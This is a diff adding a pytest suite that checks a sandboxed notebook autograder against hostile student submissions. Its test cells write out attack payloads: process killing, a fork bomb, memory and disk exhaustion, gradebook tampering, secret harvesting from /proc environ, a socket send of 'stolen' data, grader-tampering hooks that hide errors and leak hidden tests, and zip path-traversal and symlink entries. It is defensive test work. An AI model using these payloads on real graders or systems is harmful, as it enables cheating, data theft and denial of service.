@@ -1,0 +1,469 @@
+"""The attack suite: hostile students in a real class run, with honest students around them.
+
+One class of lesson 9.1 is graded by ``course/instructor.py autograde`` (2 workers, the bubblewrap
+sandbox on): three honest students (reference, planted bugs, valid alternatives), and hostile
+students whose notebooks are correct except for one extra cell (or one or two lines in a graded
+function) that attacks the grader. Each hostile student gets what its notebook earned; the honest
+students' grades are exactly as without them; nothing outside the sandbox changes; nothing the
+students started survives; feedback holds no hidden test; the report names what each one tried.
+
+The in-kernel tampering attacks (displayhook, guard replacement + patched comparisons, a wrapped
+run_cell with a silenced traceback) each come with a control student who submits the same bug
+alone: the attacker must score exactly what the control scores, and the control must lose points.
+Skips (saying why) where the sandbox cannot start; ./test.sh installs bubblewrap.
+"""
+
+from __future__ import annotations
+
+import html
+import json
+import os
+import re
+import socket
+import sqlite3
+import stat
+import time
+import zipfile
+
+import nbformat
+import pytest
+
+from tests.conftest import ROOT
+from tests.grading import students as S
+from tests.grading.harness import Lesson, VariantFile
+from tests.nbgrader_course import SANDBOX_MISSING, Course
+from tests.test_autograder import hidden_lines, instructor
+
+pytestmark = pytest.mark.skipif(
+    SANDBOX_MISSING is not None, reason=f"no sandbox: {SANDBOX_MISSING}"
+)
+
+LESSON = "9.1"
+MARK = "h15sbx" + str(os.getpid())  # in the command line of every process a student starts
+SECRET = "grader-secret-" + str(os.getpid())
+
+# Each attack is one code cell inserted after the lesson's first code cell. ROOT_/REPO_/PORT_/MARK_
+# are replaced by the course root, the repository, the listener's port and the marker. An attack
+# that fails raises (uncaught), so the report names what it tried.
+CELLS = {
+    "read_sources": """
+import glob, os, sys
+found = glob.glob("ROOT_/source_notebooks/*/*.ipynb") + glob.glob("REPO_/source_notebooks/*/*.ipynb")
+for p in [os.getcwd(), *sys.path, os.environ.get("PYTHONPATH", "")]:
+    found += glob.glob(os.path.join(p, "..", "..", "..", "source_notebooks", "*", "*.ipynb"))
+for f in found:
+    print(open(f).read())
+print(open("ROOT_/source_notebooks/9.1/9.1.ipynb").read())
+""",
+    "gradebook": """
+import sqlite3
+db = sqlite3.connect("file:ROOT_/gradebook.db?mode=rw", uri=True)
+db.execute("create table hacked (x)")
+db.execute("update grade set auto_score = 1000")
+db.commit()
+""",
+    "write_helpers": """
+open("REPO_/helpers/zz_MARK_.py", "w").write("raise SystemExit('pwned')")
+""",
+    "write_release": """
+import os
+for p in ["ROOT_/release/9.1/zz_MARK_.txt", "ROOT_/release/zz_MARK_.txt"]:
+    try:
+        open(p, "w").write("pwned")
+    except OSError as e:
+        print("refused:", e)
+os.listdir("ROOT_/release/9.1")
+open("ROOT_/release/9.1/zz_MARK_.txt", "w").write("pwned")
+""",
+    "other_student": """
+open("ROOT_/submitted/alice_reference/9.1/9.1.ipynb", "w").write("{}")
+""",
+    "kill_parents": """
+import os, signal
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+for target in (os.getppid(), -1):
+    try:
+        os.kill(target, signal.SIGKILL)
+    except OSError as e:
+        print(target, e)
+os.kill(os.getpid(), signal.SIGKILL)  # and, if nothing else died, itself
+""",
+    "orphans": """
+import subprocess, sys
+for i in range(20):
+    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "MARK_"],
+                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+""",
+    "fork_bomb": """
+import os, time
+kids = 0
+for i in range(600):  # bounded: at most 600 processes, each sleeping
+    pid = os.fork()
+    if pid == 0:
+        os.execv("/bin/sleep", ["/bin/sleep", "3600", "MARK_"])
+    kids += 1
+print(kids, "children")
+raise RuntimeError(f"fork bomb: {kids} children started")
+""",
+    "memory_bomb": """
+import numpy as np
+blocks = []
+for i in range(6):
+    b = np.ones(2**30 // 8)  # 1 GiB, touched
+    blocks.append(b)
+""",
+    "disk_fill": """
+import os
+chunk = b"x" * (64 * 2**20)
+for where in ["/tmp", os.getcwd()]:
+    try:
+        for i in range(40):
+            with open(os.path.join(where, f"fill{i}"), "wb") as f:
+                for _ in range(8):
+                    f.write(chunk)
+    except OSError as e:
+        print(where, "stopped:", e)
+with open("big", "wb") as f:
+    f.write(chunk * 8)
+""",
+    "network": """
+import socket
+s = socket.create_connection(("127.0.0.1", PORT_), timeout=5)
+s.sendall(b"stolen")
+""",
+    "environment": """
+import os
+print(dict(os.environ))
+for p in os.listdir("/proc"):
+    if p.isdigit():
+        try:
+            print(p, open(f"/proc/{p}/environ").read(), open(f"/proc/{p}/cmdline").read())
+        except OSError:
+            pass
+assert "SECRET_" in str(dict(os.environ)), "no grader secret in my environment"
+""",
+    "home_and_host": """
+import os
+print(os.listdir("/"), os.listdir(os.path.expanduser("~")))
+print(os.listdir("/root"))
+""",
+    # in-kernel tampering that must not help (item 6): hooks that leak test sources into feedback
+    # (and every solution cell calls _leak() again: see the fixture)
+    "leak_hook": """
+import linecache
+_seen = []
+def _rec(info):
+    _seen.append(getattr(info, "raw_cell", ""))
+def _leak():
+    print("\\n".join(_seen))
+    for k, v in list(linecache.cache.items()):
+        print("".join(v[2]) if len(v) > 2 else "")
+    print("\\n".join(map(str, In)))
+    get_ipython().events.register("pre_run_cell", _rec)
+    get_ipython().events.register("post_run_cell", lambda result: _rec(result.info))
+_leak()
+""",
+}
+
+# Tampering inside a graded function, each with a control (the same bug alone).
+TAMPER_FUNCTION = {
+    # publishes an execute_result before the test's AssertionError
+    "displayhook": ("verify_strict", '    import sys\n    sys.displayhook("ok")\n'),
+    # replaces the guard by its well-known name, then disables the comparisons the tests use
+    "guard": (
+        "p_info",
+        "    import sys, math, numpy as _n\n"
+        "    sys._nbgrader_guard = lambda ns, fix: []\n"
+        "    math.isclose = lambda *a, **k: True\n"
+        "    _n.allclose = lambda *a, **k: True\n"
+        "    _n.testing.assert_allclose = lambda *a, **k: None\n",
+    ),
+}
+# A cell (after the first) that wraps run_cell so failing cells report success, with a bug.
+RUN_CELL = """
+_ip = get_ipython()
+def _wrap(orig):
+    def run(*a, **k):
+        r = orig(*a, **k)
+        try:
+            r.error_in_exec = None
+            r.error_before_exec = None
+        except Exception:
+            pass
+        return r
+    return run
+def _wrap_async(orig):
+    async def run(*a, **k):
+        r = await orig(*a, **k)
+        r.error_in_exec = None
+        r.error_before_exec = None
+        return r
+    return run
+_ip.run_cell = _wrap(_ip.run_cell)
+_ip.run_cell_async = _wrap_async(_ip.run_cell_async)
+_ip.showtraceback = lambda *a, **k: None
+_ip._showtraceback = lambda *a, **k: None
+"""
+
+
+def _first_bug(function: str):
+    return next(
+        v for v in VariantFile.load(LESSON).variants if v.kind == "bug" and v.function == function
+    )
+
+
+def _with_cell(code: str, nb=None):
+    nb = nb or S.filled(LESSON)
+    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
+    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(code))
+    return nb
+
+
+def _tampered(function: str, lines: str):
+    """The first planted bug of ``function`` with ``lines`` added at the top of its body."""
+    bug = _first_bug(function)
+    code = re.sub(rf"(def {function}\(.*?\):\n)", lambda m: m.group(1) + lines, bug.code, count=1,
+                  flags=re.S)  # fmt: skip
+    assert code != bug.code
+    return S.filled(LESSON, [bug.__class__(bug.kind, bug.function, bug.description, code)])
+
+
+@pytest.fixture(scope="module")
+def listener():
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(8)
+    srv.setblocking(False)
+    yield srv
+    srv.close()
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory, listener):
+    course = Course(tmp_path_factory.mktemp("attacked") / "course", [LESSON])
+    course.release(LESSON)
+    info = Lesson.load(LESSON)
+    full = S.expected_points(LESSON, set())
+    subs = {"alice_reference": (S.filled(LESSON), full)}
+    subs["carol_alternatives"] = (
+        S.filled(LESSON, [v for v in VariantFile.load(LESSON).variants if v.kind == "valid"]),
+        full,
+    )
+    fill = {"ROOT_": str(course.root), "REPO_": str(ROOT), "PORT_": str(listener.getsockname()[1]),
+            "MARK_": MARK, "SECRET_": SECRET}  # fmt: skip
+    for name, code in CELLS.items():
+        for k, v in fill.items():
+            code = code.replace(k, v)
+        subs[f"x_{name}"] = (_with_cell(code), full)
+    for cell in subs["x_leak_hook"][0].cells:
+        if cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "code":
+            cell.source += "\n_leak()\n"
+    for name, (fn, lines) in TAMPER_FUNCTION.items():
+        subs[f"x_tamper_{name}"] = (_tampered(fn, lines), None)
+        subs[f"ctl_{name}"] = (S.filled(LESSON, [_first_bug(fn)]), None)
+    subs["x_tamper_run_cell"] = (
+        _with_cell(RUN_CELL, S.filled(LESSON, [_first_bug("p_info")])),
+        None,
+    )
+    subs["ctl_run_cell"] = (S.filled(LESSON, [_first_bug("p_info")]), None)
+    for student, (nb, _) in subs.items():
+        dest = course.root / "submitted" / student / LESSON
+        dest.mkdir(parents=True)
+        nbformat.write(nb, dest / f"{LESSON}.ipynb")
+        (dest / "timestamp.txt").write_text("2026-11-29 10:00:00.000000 UTC")
+    # a submission folder holding a symlink (collect never makes one): refused before grading
+    link = course.root / "submitted" / "x_symlink" / LESSON
+    link.mkdir(parents=True)
+    nbformat.write(S.filled(LESSON), link / f"{LESSON}.ipynb")
+    (link / "timestamp.txt").write_text("2026-11-29 10:00:00.000000 UTC")
+    (link / "leak").symlink_to(course.root / "source_notebooks")
+    before = {
+        p: p.read_bytes()
+        for p in [
+            *(course.root / "release").rglob("*"),
+            *(course.root / "source_notebooks").rglob("*"),
+            *(course.root / "submitted").rglob("*.ipynb"),
+        ]  # fmt: skip
+        if p.is_file() and not p.is_symlink()
+    }
+    os.environ["H15_GRADER_SECRET"] = SECRET
+    try:
+        report = instructor.autograde(LESSON, workers=2, timeout=60, root=course.root)
+    finally:
+        del os.environ["H15_GRADER_SECRET"]
+    course.nbgrader("generate_feedback", LESSON, "--force")
+    del info
+    return course, subs, report, before
+
+
+def _scores(course):
+    return course.scores(LESSON)
+
+
+def _tests_only(per: dict) -> dict:
+    tests = set(Lesson.load(LESSON).test_cells)
+    return {c: v for c, v in per.items() if c in tests}
+
+
+def test_honest_and_hostile_students_get_what_their_notebooks_earned(attacked):
+    course, subs, report, _ = attacked
+    got = {s: _tests_only(per) for s, per in _scores(course).items()}
+    wrong = {s: (got.get(s), want) for s, (_, want) in subs.items() if want and got.get(s) != want}
+    assert not wrong, f"graded wrongly (got, expected): {wrong}"
+    assert set(report["graded"]) == set(subs), report["failed"]
+
+
+def test_tampering_inside_the_kernel_earns_nothing_the_bug_alone_does_not(attacked):
+    course, _, _, _ = attacked
+    got = {s: _tests_only(per) for s, per in _scores(course).items()}
+    full = S.expected_points(LESSON, set())
+    for name in [*TAMPER_FUNCTION, "run_cell"]:
+        control, attacker = got[f"ctl_{name}"], got[f"x_tamper_{name}"]
+        assert control != full, f"the control bug for {name} loses no points: the test is void"
+        more = {c: (attacker[c], control[c]) for c in control if attacker[c] > control[c]}
+        assert not more, f"{name}: tampering earned points the bug alone does not: {more}"
+        assert attacker != full
+
+
+def test_the_class_run_finished_and_the_report_names_each_attempt(attacked):
+    course, subs, report, _ = attacked
+    assert report["sandbox"] == "bubblewrap"
+    assert report["limits"]["memory_mb"] == 4096
+    saved = json.loads((course.root / "autograded" / f"report-{LESSON}.json").read_text())
+    assert saved["graded"] == report["graded"]
+    symlinked = [f for f in report["failed"] if f["student"] == "x_symlink"]
+    assert symlinked and "symlink" in symlinked[0]["reason"], report["failed"]
+    recs = report["students"]
+    for name in CELLS:
+        if name in ("orphans", "leak_hook", "home_and_host"):
+            continue  # these succeed at what they do inside the sandbox; their effect is checked
+        rec = recs[f"x_{name}"]
+        said = " ".join(rec.get("errors", []) + rec.get("safety_events", []))
+        assert said, f"x_{name}: the report does not say what it tried: {rec}"
+    assert "MemoryError" in " ".join(recs["x_memory_bomb"].get("errors", [])), recs["x_memory_bomb"]
+    assert "killed the kernel" in " ".join(recs["x_kill_parents"].get("safety_events", [])), recs[
+        "x_kill_parents"
+    ]
+    assert any("network" in e.lower() or "refused" in e.lower() or "unreachable" in e.lower()
+               for e in recs["x_network"]["errors"]), recs["x_network"]  # fmt: skip
+
+
+def test_nothing_outside_the_sandbox_changed(attacked, listener):
+    course, _, _, before = attacked
+    changed = [str(p) for p, data in before.items() if not p.exists() or p.read_bytes() != data]
+    assert not changed, f"changed by a student: {changed}"
+    assert not list(ROOT.glob(f"helpers/zz_{MARK}*")), "a student wrote into helpers/"
+    assert not list(course.root.glob(f"release/**/zz_{MARK}*")), "a student wrote into release/"
+    with sqlite3.connect(course.root / "gradebook.db") as db:
+        tables = {r[0] for r in db.execute("select name from sqlite_master")}
+        top = db.execute("select max(auto_score) from grade").fetchone()[0]
+    assert "hacked" not in tables and top is not None and top <= 10, (tables, top)
+    with pytest.raises(BlockingIOError):
+        listener.accept()  # nobody connected to the host's loopback
+
+
+def test_nothing_a_student_started_is_still_running(attacked):
+    deadline = time.monotonic() + 20  # a wait for processes to be reaped, not a timing assertion
+    while True:
+        alive = []
+        for p in os.listdir("/proc"):
+            if p.isdigit():
+                try:
+                    cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode()
+                except OSError:
+                    continue
+                if MARK in cmd and "pytest" not in cmd:
+                    alive.append((p, cmd[:80]))
+        if not alive or time.monotonic() > deadline:
+            break
+        time.sleep(0.5)
+    assert not alive, f"still running after the class run: {alive[:5]}"
+
+
+def test_no_hidden_test_no_secret_no_course_file_in_any_output(attacked):
+    course, _, _, _ = attacked
+    hidden = hidden_lines(LESSON)
+    src = nbformat.read(course.root / "source_notebooks" / LESSON / f"{LESSON}.ipynb", 4)
+    solution_lines = {
+        ln.strip()
+        for c in src.cells
+        for block in re.findall(r"### BEGIN SOLUTION(.*?)### END SOLUTION", c.source, re.S)
+        for ln in block.splitlines()
+        if len(ln.strip()) >= 30
+    }
+    for f in sorted((course.root / "feedback").glob(f"*/{LESSON}/{LESSON}.html")):
+        student = f.parent.parent.name
+        text = html.unescape(re.sub(r"<[^>]+>", "", f.read_text()))
+        own = "\n".join(c.source for c in nbformat.read(
+            course.root / "submitted" / student / LESSON / f"{LESSON}.ipynb", as_version=4).cells)  # fmt: skip
+        leaked = [ln for ln in hidden | solution_lines if ln in text and ln not in own]
+        assert not leaked, f"{student}'s feedback shows hidden tests or solutions: {leaked[:3]}"
+        assert SECRET not in text, f"{student}'s feedback shows the grader's environment"
+    for nb in (course.root / "autograded").glob(f"*/{LESSON}/{LESSON}.ipynb"):
+        assert SECRET not in nb.read_text(), f"{nb}: the grader's environment reached the kernel"
+    nb = nbformat.read(
+        course.root / "autograded" / "x_home_and_host" / LESSON / f"{LESSON}.ipynb", 4
+    )
+    seen = json.dumps([c.get("outputs", []) for c in nb.cells])
+    for name in ("gradebook.db", "source_notebooks", "submitted", "autograded", "nbgrader_config"):
+        assert name not in seen, f"the sandbox shows {name} to a student"
+
+
+# ---------------------------------------------------------------------------------------------
+# collect refuses tricks
+
+
+def test_collect_refuses_symlinks_devices_escapes_and_oversized(tmp_path):
+    src = tmp_path / "inbox"
+    src.mkdir()
+    nb = ROOT / "release" / LESSON / f"{LESSON}.ipynb"
+    good = src / "good" / "workspace" / LESSON
+    good.mkdir(parents=True)
+    good.joinpath(f"{LESSON}.ipynb").write_bytes(nb.read_bytes())
+    linked = src / "linked" / "workspace" / LESSON
+    linked.mkdir(parents=True)
+    (linked / f"{LESSON}.ipynb").symlink_to(ROOT / "source_notebooks" / LESSON / f"{LESSON}.ipynb")
+    (src / "linkdir").symlink_to(good.parent.parent)
+    big = src / "big" / LESSON
+    big.mkdir(parents=True)
+    with open(big / f"{LESSON}.ipynb", "wb") as f:
+        f.truncate((instructor.collect_report.__globals__["NOTEBOOK_CAP_MB"] + 1) * 2**20)
+    dots = src / "..."
+    dots.mkdir()
+    (dots / f"{LESSON}.ipynb").write_bytes(nb.read_bytes())
+    with zipfile.ZipFile(src / "zipper.zip", "w") as zf:
+        zf.write(nb, f"work/{LESSON}.ipynb")
+        sym = zipfile.ZipInfo(f"a/{LESSON}.ipynb")
+        sym.external_attr = (stat.S_IFLNK | 0o777) << 16
+        zf.writestr(sym, str(ROOT / "source_notebooks" / LESSON / f"{LESSON}.ipynb"))
+        dev = zipfile.ZipInfo(f"b/{LESSON}.ipynb")
+        dev.external_attr = (stat.S_IFCHR | 0o666) << 16
+        zf.writestr(dev, "")
+        zf.writestr(f"/abs/{LESSON}.ipynb", "{}")
+        zf.writestr(f"../../up/{LESSON}.ipynb", "{}")
+    course = tmp_path / "course"
+    got, refused = instructor.collect_report(src, [LESSON], root=course)
+    assert got == {"good": [LESSON], "zipper": [LESSON]}, (got, refused)
+    assert (
+        course / "submitted" / "zipper" / LESSON / f"{LESSON}.ipynb"
+    ).read_bytes() == nb.read_bytes()
+    text = "\n".join(refused)
+    for needle in ["linked: ", "linkdir: the entry is a symlink", "big: ", "larger than",
+                   "...: no safe student id", "is a symlink", "device", "escapes"]:  # fmt: skip
+        assert needle in text, f"no refusal mentioning {needle!r}:\n{text}"
+    assert not (tmp_path / "up").exists() and not (course / "submitted" / "...").exists()
+    assert sorted(p.name for p in (course / "submitted").iterdir()) == ["good", "zipper"]
+
+
+def test_autograde_refuses_without_a_sandbox_unless_trusted(tmp_path, monkeypatch):
+    from course.grading import runner, sandbox
+
+    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
+    with pytest.raises(SystemExit, match="bubblewrap.*install|install.*bubblewrap"):
+        runner.autograde(LESSON, root=tmp_path)
+    assert "--trusted-students" in sandbox.FIX and "user namespaces" in sandbox.FIX
